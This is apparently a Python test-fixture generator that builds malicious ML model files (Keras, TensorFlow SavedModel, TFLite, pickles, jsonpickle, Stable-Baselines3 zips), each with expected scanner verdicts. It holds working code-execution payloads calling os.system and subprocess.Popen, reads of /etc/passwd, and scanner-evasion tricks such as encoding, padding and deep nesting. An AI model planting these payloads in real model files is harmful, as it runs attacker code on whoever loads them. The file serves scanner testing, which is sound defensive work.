"""Vectors in descriptions that Keras builds from where they are not looked for: the object graph of a SavedModel, dicts and lists around them."""

import base64
import collections
import contextlib
import functools
import io
import json
import pathlib
import pickle
import tempfile
import zipfile

from attack import COMMAND, EXPRESSION, FIRED, Table
from attack_files import zip_of
from attack_formats import DENSE, LAMBDA, layer, sequential
from attack_pickles import SYSTEM
from pickles import bytes_, global_, proto, reduce, unicode

ATTACKS = Table()
CODE = ("code", "malicious")


def of_one_graph(folder, fill):
    """A SavedModel of what `fill` gives a meta graph that is empty but for its tag."""
    from tensorflow.core.protobuf import saved_model_pb2

    model = saved_model_pb2.SavedModel(saved_model_schema_version=1)
    graph = model.meta_graphs.add()
    graph.meta_info_def.tags.append("serve")
    fill(graph)
    (folder / "model").mkdir()
    (folder / "model" / "saved_model.pb").write_bytes(model.SerializeToString())
    return folder / "model"


# --- SavedModels of TensorFlow 2.0 to 2.4 ----------------------------------------------------------------------------------------
def saved(name, metadata, verdicts=CODE, later=None):
    """`later`: the bytes of the file in which later versions look first."""

    @ATTACKS.made(f"nested-config/tf_object_graph_{name}", verdicts)
    def _(folder):
        def describe(graph):
            graph.object_graph_def.nodes.add().user_object.identifier = "_generic_user_object"
            user_object = graph.object_graph_def.nodes.add().user_object
            user_object.identifier, user_object.metadata = "_tf_keras_layer", metadata

        path = of_one_graph(folder, describe)
        if later is not None:
            (path / "keras_metadata.pb").write_bytes(later)
        return path


saved("lambda", json.dumps(LAMBDA))
saved("lambda_beside_a_later_file", json.dumps(LAMBDA), later=b"")
saved("function", json.dumps(layer("Dense", {"activation": {"module": "os", "class_name": "function", "config": "system"}})), ("malicious",))
saved("no_json", json.dumps(LAMBDA)[:-1], ("unreadable",))


@ATTACKS.made("nested-config/tf_reads_without_an_input", CODE)
def _(folder):
    return of_one_graph(folder, lambda graph: graph.graph_def.node.add(name="read", op="ReadFile"))


# --- what stands around a model --------------------------------------------------------------------------------------------------
def around(name, file, wrap, fire=""):
    @ATTACKS.made(f"nested-config/keras_in_{name}", CODE, fire)
    def _(folder):
        import keras

        given = keras.Input((1,))
        runs = keras.layers.Lambda(eval(f"lambda x: x if {EXPRESSION} is None else x"))
        with contextlib.chdir(folder):  # the layer runs where the model is put together, too
            text = json.dumps(wrap(json.loads(keras.Sequential([given, runs]).to_json())))
        (folder / FIRED).unlink()
        path = folder / file
        path.write_bytes(zip_of([("config.json", text)]) if file.endswith(".keras") else text.encode())
        return path


around("a_dict", "model.keras", lambda model: {"a": model}, "keras_unsafe")
around("a_list", "model.keras", lambda model: [model], "keras_unsafe")
around("tensorflowjs", "model.json", lambda model: {"modelTopology": {"keras_version": "2.4.0", "model_config": model}, "weightsManifest": []})


def described(name, file, config, verdicts=CODE):
    ATTACKS.text(f"nested-config/keras_{name}", json.dumps(config), file, verdicts)


described("list_of_layers", "architecture.json", {"class_name": "Sequential", "keras_version": "2.1.0", "config": [LAMBDA]})
described("class_of_others_around", "config.json", {"a": {"class_name": "Mine", "config": {"inner": sequential(DENSE, LAMBDA)}}})
described("vocabulary_in_a_dict", "config.json", {"a": layer("StringLookup", {"vocabulary": "/etc/passwd"})})
described("function_in_a_list", "config.json", [{"module": "os", "class_name": "function", "config": "system"}], ("malicious",))


# --- TensorFlow's operators in TFLite ----------------------------------------------------------------------------------------------
def flex(name, change, verdicts=("malicious",)):
    """A graph that writes a file by TensorFlow's own operator, as the converter makes it. The package here has not the delegate that runs it."""

    @ATTACKS.made(f"nested-config/tflite_{name}", verdicts)
    def _(folder):
        import tensorflow as tf

        @tf.function(input_signature=[tf.TensorSpec([], tf.string)])
        def writes(text):
            tf.io.write_file(FIRED, text)
            return text

        converter = tf.lite.TFLiteConverter.from_concrete_functions([writes.get_concrete_function()])
        converter.target_spec.supported_ops = [tf.lite.OpsSet.TFLITE_BUILTINS, tf.lite.OpsSet.SELECT_TF_OPS]
        path = folder / "model.tflite"
        path.write_bytes(change(converter.convert()))
        return path


flex("write_file", lambda data: data)
flex("write_file_by_its_node_alone", lambda data: data.replace(b"FlexWriteFile", b"FlexSqrt".ljust(13, b"\0")))
flex("node_out_of_its_options", lambda data: data.replace(b"FlexWriteFile", b"FlexSqrt".ljust(13, b"\0")).replace(b")\x1f\x14\x14", b")\xff\x14\x14"), ("unreadable", "malicious"))


# --- Pickles in texts --------------------------------------------------------------------------------------------------------------
ENCODED = base64.b64encode(SYSTEM).decode()


def stable_baselines(name, text, verdicts=("malicious",), **more):
    """What Stable-Baselines3 saves: arguments as JSON, what is none of JSON pickled in them, state dicts beside."""
    document = {"policy_class": {":type:": "<class 'abc.ABCMeta'>", ":serialized:": text, **more}, "gamma": 0.99}
    data = zip_of([("data", json.dumps(document, indent=4)), ("_stable_baselines3_version", "2.7.0")])
    ATTACKS.data(f"nested-loader/stable_baselines_{name}", data, "ppo.zip", verdicts, "stable_baselines")


stable_baselines("pickle", ENCODED)
stable_baselines("pickle_in_lines", "\n".join(ENCODED[i : i + 5] for i in range(0, len(ENCODED), 5)))
stable_baselines("pickle_among_others", "-_.".join(ENCODED) + "=" + "\u2603")
stable_baselines("pickle_without_a_protocol", base64.b64encode(SYSTEM[2:]).decode())
stable_baselines("pickle_and_more", base64.b64encode(SYSTEM + bytes(30)).decode())
ATTACKS.text("nested-loader/base64_in_json", json.dumps({"version": 1, "models": [{"name": "a", "weights": ENCODED}]}), "model.json")
ATTACKS.text("nested-loader/base64_in_a_list", json.dumps(["x", ENCODED]), "model.json")
ATTACKS.text("nested-loader/base64_in_yaml", f"version: 1\nmodel: {ENCODED}\n", "model.yaml")
ATTACKS.text("nested-loader/base64_in_a_block_of_yaml", "version: 1\nmodel: !!binary |\n" + "".join(f"  {ENCODED[i : i + 20]}\n" for i in range(0, len(ENCODED), 20)), "model.yaml")
ATTACKS.text("nested-loader/base64_without_a_json_ending", json.dumps({"model": ENCODED}), "model")
REDUCED = {"py/reduce": [{"py/function": "os.system"}, {"py/tuple": [COMMAND]}]}
ATTACKS.text("nested-config/jsonpickle_reduce", json.dumps({"a": REDUCED}), "model.json")
ATTACKS.text("nested-config/jsonpickle_type", json.dumps({"py/reduce": [{"py/type": "subprocess.Popen"}, {"py/tuple": [COMMAND, -1, None, None, None, None, None, True, True]}]}), "model.json")
ATTACKS.text("nested-config/jsonpickle_object", json.dumps({"py/object": "evilmod.Model", "w": [1]}), "model.json", CODE)
ATTACKS.text("nested-config/jsonpickle_repr", json.dumps({"py/repr": f"os/{EXPRESSION}"}), "model.json")


# --- Models of Keras in pickles ----------------------------------------------------------------------------------------------------
@functools.cache
def keras_file(runs):
    """A .keras file of one layer, which runs the command or does nothing."""
    import keras

    layer = keras.layers.Lambda(eval(f"lambda x: x if {EXPRESSION} is None else x")) if runs else keras.layers.Dense(1)
    with tempfile.TemporaryDirectory() as folder, contextlib.chdir(folder):
        keras.Sequential([keras.Input((1,)), layer]).save("model.keras")
        return pathlib.Path("model.keras").read_bytes()


MODEL = global_("keras.src.models.sequential", "Sequential")
LOADS = reduce(global_("builtins", "getattr"), MODEL, unicode("_unpickle_model"))
STREAM = global_("_io", "BytesIO") + b")\x81"


def stream(data, attributes=b"N"):
    return STREAM + b"(" + bytes_(data) + b"K\x00" + attributes + b"tb"


def keras_pickle(name, program, verdicts=CODE, fire=""):
    """`program` is given the bytes of a harmless file, and of one with a Lambda."""

    @ATTACKS.made(f"nested-loader/keras_{name}", verdicts, fire)
    def _(folder):
        (folder / "model.pkl").write_bytes(proto(3, program(keras_file(False), keras_file(True))))
        return folder / "model.pkl"


keras_pickle("lambda", lambda _, runs: reduce(LOADS, stream(runs)), ("code",), "pickle")
keras_pickle("lambda_behind_a_harmless_one", lambda inert, runs: reduce(LOADS, stream(inert)) + b"0" + reduce(LOADS, stream(runs)), fire="pickle")
keras_pickle("lambda_as_a_function", lambda _, runs: reduce(global_("tf_keras.src.saving.pickle_utils", "deserialize_model_from_bytecode"), bytes_(runs)))
keras_pickle("loader_for_others", lambda inert, _: b"]" + reduce(LOADS, stream(inert)) + b"a" + LOADS + b"a")
keras_pickle("loader_by_a_map", lambda inert, runs: reduce(LOADS, stream(inert)) + b"0" + reduce(global_("builtins", "list"), reduce(global_("builtins", "map"), LOADS, b"]" + stream(runs) + b"a")), ("malicious",), "pickle")
keras_pickle("class_that_is_called", lambda inert, _: reduce(LOADS, stream(inert)) + b"0" + reduce(MODEL, b"]"))
keras_pickle("other_function", lambda inert, _: reduce(LOADS, stream(inert)) + b"0" + reduce(reduce(global_("builtins", "getattr"), MODEL, unicode("from_config")), b"}"))
keras_pickle("computed_bytes", lambda inert, _: reduce(LOADS, reduce(global_("_io", "BytesIO"), bytes_(inert))), ("malicious",))
keras_pickle("stream_with_attributes", lambda inert, _: reduce(LOADS, stream(inert, b"}" + unicode("read") + b"Ns")), ("malicious",))
keras_pickle("state_of_a_model", lambda inert, _: reduce(LOADS, stream(inert)) + b"}" + unicode("call") + b"Nsb", ("malicious",))
keras_pickle("other_state_behind", lambda inert, runs: b"]" + stream(runs) + b"q\x05a0" + reduce(LOADS, b"h\x05") + b"0h\x05(" + bytes_(inert) + b"K\x00Ntb", ("malicious",), "pickle")
keras_pickle("class_of_no_layer", lambda inert, _: reduce(reduce(global_("builtins", "getattr"), global_("keras.src.utils.file_utils", "get_file"), unicode("_unpickle_model")), stream(inert)), ("malicious",))
keras_pickle("tokenizer_that_is_called", lambda *_: reduce(global_("keras_preprocessing.text", "Tokenizer"), b"N"), ("malicious",))
keras_pickle("tensor_of_a_function", lambda *_: reduce(global_("tensorflow.python.framework.ops", "convert_to_tensor"), global_("os", "system")), ("malicious",))
keras_pickle("no_file", lambda inert, _: reduce(LOADS, stream(inert[:-4])), ("unreadable", "code", "malicious"))


# --- Pickles that are data ---------------------------------------------------------------------------------------------------------
def held(name, file, value, fire="", verdicts=("malicious",)):
    """What `value` gives, under the key of an extra state; it is given the bytes of a pickle, and of a file of torch.save that has it."""

    @ATTACKS.made(f"nested-loader/held_{name}", verdicts, fire)
    def _(folder):
        import torch
        from safetensors.torch import save_file

        state = {"layer._extra_state": value(SYSTEM, zip_of([("archive/data.pkl", SYSTEM), ("archive/version", "3\n"), ("archive/byteorder", "little")]))}
        path = folder / file
        if file.endswith("safetensors"):
            save_file(state, path)
        elif file.endswith("pkl"):
            path.write_bytes(pickle.dumps(state))
        else:
            torch.save(state, path)
        return path


def tensor(data):
    import torch

    return torch.frombuffer(bytearray(data), dtype=torch.uint8)


held("as_bytes", "model.pkl", lambda program, _: program)
held("as_bytes_of_a_file", "model.pkl", lambda _, file: [file])
held("as_a_bytearray", "model.pkl", lambda program, _: bytearray(program))
held("in_a_stream", "model.pt", lambda _, file: io.BytesIO(file), "extra_state")
held("in_a_stream_of_a_pickle", "model.pkl", lambda program, _: io.BytesIO(program))
held("in_a_tensor", "model.pt", lambda program, _: tensor(program), "extra_state")
held("in_a_tensor_of_safetensors", "model.safetensors", lambda program, _: tensor(program), "extra_state")
held("in_bytes_in_bytes", "model.pkl", lambda program, _: pickle.dumps({"a": collections.OrderedDict(a=program)}))
held("in_bytes_ten_deep", "model.pkl", lambda program, _: functools.reduce(lambda data, _: pickle.dumps(collections.OrderedDict(a=data)), range(10), program), verdicts=("unreadable",))
held("as_text_of_latin_1", "model.pt", lambda program, _: [program, program])
held("in_bytes_without_an_end", "model.pkl", lambda program, _: program[:-1])
held("in_a_tensor_without_an_end", "model.safetensors", lambda program, _: tensor(program[:-1]))
held("in_bytes_in_bytes_of_a_dict", "model.pkl", lambda program, _: pickle.dumps({"a": program}))
held("in_base64", "model.pkl", lambda program, _: base64.b64encode(program).decode())
held("in_base64_of_a_file", "model.pt", lambda _, file: base64.b64encode(file).decode())
held("in_base64_in_bytes", "model.pkl", lambda program, _: pickle.dumps({"a": base64.b64encode(program).decode()}))
held("in_base64_of_bytes", "model.pkl", lambda program, _: base64.b64encode(pickle.dumps([program])).decode())
held("in_hexadecimal", "model.pkl", lambda program, _: program.hex())
held("in_hexadecimal_in_capitals", "model.pt", lambda program, _: program.hex().upper())
ATTACKS.text("nested-loader/hexadecimal_in_json", json.dumps({"model": SYSTEM.hex()}), "model.json")
ATTACKS.text("nested-loader/base64_without_an_end", json.dumps({"model": base64.b64encode(SYSTEM[:-1]).decode()}), "model.json")
ATTACKS.text("nested-loader/base64_in_a_key", json.dumps({ENCODED: 1}), "model.json")
ATTACKS.text("nested-config/jsonpickle_in_a_key", json.dumps({"json://" + json.dumps(REDUCED): 1}), "model.json", CODE)


def padded(name, text):
    """The document of Stable-Baselines3 in more than is looked at, or read."""

    def data():
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("data", text(json.dumps({"policy_class": {":serialized:": ENCODED}})))
        return out.getvalue()

    ATTACKS.data(f"nested-loader/stable_baselines_{name}", data, "ppo.zip", ("malicious", "unreadable"))


padded("behind_blanks", lambda text: " " * 70_000 + text)
padded("behind_very_many_blanks", lambda text: " " * 101_000_000 + text)
padded("beside_a_deep_list", lambda text: '{"a":' + "[" * 1100 + "]" * 1100 + "," + text[1:])


# --- paths that TensorFlow gives to functions and operators by itself -------------------------------------------------------------
FOREIGN = "/etc/hostname"


def lookup(path):
    """What a table holds whose keys and values are the lines of a file."""
    import tensorflow as tf

    handle = tf.raw_ops.HashTableV2(key_dtype=tf.int64, value_dtype=tf.string, shared_name="table")
    filled = tf.raw_ops.InitializeTableFromTextFileV2(table_handle=handle, filename=path, key_index=-1, value_index=-2, vocab_size=-1, delimiter="\t")
    with tf.control_dependencies([filled]):
        return tf.strings.reduce_join(tf.raw_ops.LookupTableExportV2(table_handle=handle, Tkeys=tf.int64, Tvalues=tf.string)[1])


def written(path, value):
    import tensorflow as tf

    return tf.raw_ops.SaveV2(prefix=path, tensor_names=["x"], shape_and_slices=[""], tensors=[value])


@ATTACKS.made("nested-config/tf_default_of_an_argument", CODE)
def _(folder):
    import tensorflow as tf

    class Model(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([], tf.float32), tf.TensorSpec([], tf.string)])
        def f(self, x, prefix=FIRED):
            with tf.control_dependencies([written(prefix, x)]):
                return tf.identity(x)

        @tf.function(input_signature=[tf.TensorSpec([], tf.float32)])
        def g(self, x):
            return x

    model = Model()
    tf.saved_model.save(model, str(folder / "model"), signatures={"serving_default": model.g.get_concrete_function()})
    return folder / "model"


def edited(path, change):
    from tensorflow.core.protobuf import saved_model_pb2

    model = saved_model_pb2.SavedModel()
    model.ParseFromString((path / "saved_model.pb").read_bytes())
    change(model.meta_graphs[0])
    (path / "saved_model.pb").write_bytes(model.SerializeToString())
    return path


@ATTACKS.made("nested-config/tf_default_of_a_signature", CODE)
def _(folder):
    import tensorflow as tf

    with tf.Graph().as_default() as graph:
        place = tf.compat.v1.placeholder(tf.string, [], "place")
        done = tf.raw_ops.SaveV2(prefix=place, tensor_names=["a"], shape_and_slices=[""], tensors=[tf.constant(1.0)])
        with tf.control_dependencies([done]):
            tf.constant(1.0, name="y")

    def describe(meta):
        meta.graph_def.CopyFrom(graph.as_graph_def())
        signature = meta.signature_def["serving_default"]
        signature.method_name = "tensorflow/serving/predict"
        signature.inputs["place"].name, signature.inputs["place"].dtype = "place:0", tf.string.as_datatype_enum
        signature.outputs["y"].name, signature.outputs["y"].dtype = "y:0", tf.float32.as_datatype_enum
        signature.defaults["place"].CopyFrom(tf.make_tensor_proto("/tmp/elsewhere"))

    return of_one_graph(folder, describe)


@ATTACKS.made("nested-config/tf_restored_by_a_function", CODE)
def _(folder):
    import tensorflow as tf

    class Restored(tf.Module):
        def _serialize_to_tensors(self):
            return {"path": tf.constant(FIRED)}

        def _restore_from_tensors(self, tensors):
            done = written(tensors["path"], tf.constant(1.0))
            with tf.control_dependencies([done] if done is not None else []):
                return tf.constant(1.0)

    class Model(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([], tf.float32)])
        def g(self, x):
            return x

    model = Model()
    model.restored = Restored()
    with contextlib.chdir(folder):
        tf.saved_model.save(model, "model", signatures={"serving_default": model.g.get_concrete_function()})

    # What Python needs none of to restore the objects.
    def strip(graph):
        kept = [function for function in graph.graph_def.library.function if "traced_restore" not in function.signature.name]
        gone = {node.name for node in graph.graph_def.node if "traced_restore" in node.attr["f"].func.name}
        nodes = [node for node in graph.graph_def.node if node.name not in gone and not any(one.lstrip("^").split(":")[0] in gone for one in node.input)]
        del graph.graph_def.library.function[:], graph.graph_def.node[:]
        graph.graph_def.library.function.extend(kept)
        graph.graph_def.node.extend(nodes)
        graph.ClearField("saver_def")

    return edited(folder / "model", strip)


@ATTACKS.made("nested-config/tf_constant_as_an_asset")
def _(folder):
    import tensorflow as tf

    model = tf.Module()
    path = model.c = tf.constant(FOREIGN)
    model.f = tf.function(lambda x: lookup(path) + x, input_signature=[tf.TensorSpec([], tf.string)])
    tf.saved_model.save(model, str(folder / "model"), signatures={"serving_default": model.f})
    (folder / "model/assets/words.txt").write_text("inside\n")

    def name_asset(graph):
        asset = graph.asset_file_def.add()
        asset.tensor_info.name, asset.filename = "Const:0", "words.txt"

    return edited(folder / "model", name_asset)


@ATTACKS.made("nested-config/tf_asset_of_a_signature")
def _(folder):
    import tensorflow.compat.v1 as v1

    graph = v1.Graph()
    with graph.as_default(), v1.Session(graph=graph) as session:
        x, path = v1.placeholder(v1.string, [], name="x"), v1.constant(FOREIGN, name="words")
        y = lookup(path) + x
        v1.add_to_collection(v1.GraphKeys.ASSET_FILEPATHS, path)
        described = v1.saved_model.build_tensor_info
        builder = v1.saved_model.Builder(str(folder / "model"))
        signature = v1.saved_model.build_signature_def({"x": described(x)}, {"y": described(y)}, "m")
        builder.add_meta_graph_and_variables(session, ["serve"], {"serving_default": signature}, assets_collection=v1.get_collection(v1.GraphKeys.ASSET_FILEPATHS))
        builder.save()
    return folder / "model"
